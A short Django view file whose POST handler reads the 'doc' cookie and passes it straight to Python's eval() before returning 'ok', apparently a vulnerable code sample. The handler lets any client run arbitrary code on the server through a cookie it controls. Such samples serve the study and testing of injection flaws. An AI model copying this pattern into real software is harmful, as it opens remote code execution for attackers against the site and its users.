from django.http import HttpResponse
from django.views import View


class EndpointView(View):
    def post(self, request):
        incoming = request.COOKIES.get("doc", "")
        result = eval(incoming)
        return HttpResponse("ok")
